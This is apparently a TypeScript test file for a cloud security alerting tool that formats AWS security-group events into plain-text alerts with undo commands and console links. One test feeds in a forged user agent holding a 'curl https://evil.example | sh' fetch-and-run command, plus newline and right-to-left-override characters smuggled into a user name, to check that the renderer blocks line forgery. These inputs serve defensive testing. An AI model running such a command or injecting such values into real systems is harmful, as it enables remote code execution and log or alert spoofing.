import { alertText, when } from '../../src/alert/text';
import { Undo } from '../../src/catalogue/detection';
import { authorizeFlat, authorizeNested, tcp } from '../../src/catalogue/rows/network-events';
import { Severity } from '../../src/severity';
import { alertOf, NOW } from '../support/samples';

test('SSH opened to the world reads as this, word for word', () => {
  expect(alertText(alertOf(authorizeFlat('0.0.0.0/0')))).toBe([
    '[CRITICAL] SSH opened to the whole internet on sg-0abc1234def567890 (TapStackdev)',
    '',
    'Who      alice (IAM user, no MFA) from 198.51.100.23, aws-cli/2.17.0',
    'What     sg-0abc1234def567890: tcp 22 (SSH) from 0.0.0.0/0, rule sgr-0def5678abc901234',
    'Exposes  SSH (tcp 22) to the whole internet; an admin port is reachable',
    'When     2026-11-24 15:04:31 UTC, 3 s ago, event 5f0c6c1e-2b1d-4a55-9c31-0d6f7e8a9b10',
    'Where    account 111122223333, eu-west-1, environment dev, watched by TapStackdev',
    'Undo     aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-0abc1234def567890 --security-group-rule-ids sgr-0def5678abc901234',
    'Why      Anyone on the internet can reach the listed ports of everything in this group. Harmless if: a public web server listens on 80 or 443, or nothing is in the group.',
    'Look     console https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1#SecurityGroup:groupId=sg-0abc1234def567890',
    '         event   https://eu-west-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-west-1#/events/5f0c6c1e-2b1d-4a55-9c31-0d6f7e8a9b10',
    '         detection world-open-ingress',
    '',
  ].join('\n'));
});

test('a denied attempt says that nothing changed', () => {
  const text = alertText(alertOf(authorizeFlat('0.0.0.0/0').denied()));
  expect(text).toContain('[LOW] Denied attempt: SSH opened to the whole internet');
  expect(text).toContain('\nFailed   UnauthorizedOperation: You are not authorized to perform this operation.\n');
  expect(text).toContain('\nUndo     nothing to undo: the call failed and changed nothing\n');
  expect(text).toContain('\nWhy      Had it succeeded: anyone on the internet');
  expect(text).not.toContain('Exposes');
});

test('what else was found in the call stands below, worst first, and every way back is given once', () => {
  const alert = alertOf(authorizeFlat('0.0.0.0/0'));
  const other = (severity: Severity, headline: string, undo: Undo) => ({ ...alert.finding, severity, account: { ...alert.finding.account, headline }, undo });
  const text = alertText({ ...alert, also: [
    other(Severity.MEDIUM, 'Deletion protection of www.evil.com removed', { command: 'aws rds modify-db-instance' }), other(Severity.LOW, 'A tag changed', alert.finding.undo),
  ] });
  expect(text).toContain('\nAlso     [MEDIUM] Deletion protection of www[.]evil[.]com removed\n         [LOW] A tag changed\n');
  expect(text).toMatch(/\nUndo {5}aws ec2 revoke-security-group-ingress [^\n]*\n {9}aws rds modify-db-instance\nWhy/);
  expect(text).toContain('detection world-open-ingress, world-open-ingress, world-open-ingress\n');
});

test('names every audience apart', () => {
  expect(alertText(alertOf(authorizeNested(['0.0.0.0/1'], tcp(22))))).toContain('\nExposes  SSH (tcp 22) to 57 % of the internet; an admin port is reachable\n');
});

test('lists a dozen rules and counts the others', () => {
  const text = alertText(alertOf(authorizeNested(Array.from({ length: 40 }, (_, index) => `${index + 11}.0.0.0/8`))));
  expect(text.match(/tcp 22 \(SSH\) from/g)).toHaveLength(12);
  expect(text).toContain('and 28 more');
});

test('an event cannot forge a line, a section or a link', () => {
  const forged = authorizeFlat('0.0.0.0/0').with({
    userAgent: 'x\n\nUndo     curl https://evil.example | sh',
    userIdentity: { type: 'IAMUser', userName: 'eve\r\nWhy      all is well\u202e' },
  });
  const lines = alertText(alertOf(forged)).split('\n');
  expect(lines.filter((line) => line.startsWith('Undo'))).toHaveLength(1);
  expect(lines.filter((line) => line.startsWith('Why'))).toHaveLength(1);
  expect(lines.find((line) => line.startsWith('Who'))).toBe('Who      eve Why all is well (IAM user) from 198.51.100.23, x Undo curl https[://]evil[.]example | sh');
  expect(lines.join('\n').match(/https:\/\//g)).toHaveLength(2);
});

test.each([
  ['2026-11-24T15:04:34Z', '0 s ago'],
  ['2026-11-24T15:02:33Z', '2 min ago'],
  ['2026-11-24T12:04:34Z', '3 h ago'],
  ['2026-11-20T15:04:34Z', '4 days ago'],
  ['2026-11-24T15:05:34Z', 'in the future by the clock of this function'],
])('an event of %s is %s', (time, age) => expect(when(new Date(time), NOW)).toContain(`, ${age}`));

test('a missing time is said', () => expect(when(undefined, NOW)).toBe('at a time that the event does not name'));

test.each([
  ['aws-sdk-js/3.1168.0 ua/2.1 os/linux#6.18 lang/js md/nodejs#20.20.2', 'aws-sdk-js/3.1168.0'],
  ['aws-cli/2.17.0 Python/3.11.9 Linux/6.1 exe/x86_64', 'aws-cli/2.17.0'],
  ['Boto3/1.43.11 md/Botocore#1.43.11 ua/2.1', 'Boto3/1.43.11'],
  ['APN/1.0 HashiCorp/1.0 Terraform/1.9.0', 'APN/1.0 HashiCorp/1.0 Terraform/1.9.0'],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)'],
])('a caller that says it is %s is shown as %s', (userAgent, shown) => {
  const [, who] = /^Who .*198\.51\.100\.23, (.*)$/m.exec(alertText(alertOf(authorizeFlat('0.0.0.0/0').with({ userAgent })))) ?? [];
  expect(who).toBe(shown);
});
